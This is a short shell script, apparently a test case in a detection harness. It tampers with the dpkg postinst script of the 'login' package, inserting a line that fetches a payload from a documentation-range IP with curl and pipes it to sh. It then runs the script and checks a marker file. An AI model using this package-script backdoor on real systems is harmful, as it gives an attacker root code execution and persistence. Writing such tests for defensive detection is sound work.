#!/bin/sh
. /opt/case/case.sh

s=/var/lib/dpkg/info/login.postinst
perl -pi -e 's|^set -e|set -e\n(curl -sf http://203.0.113.10/payload.sh \| sh) \|\| true| if $. < 20' $s
grep -q payload $s || sed -i '2i (curl -sf http://203.0.113.10/payload.sh | sh) || true' $s
sh $s triggered x >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
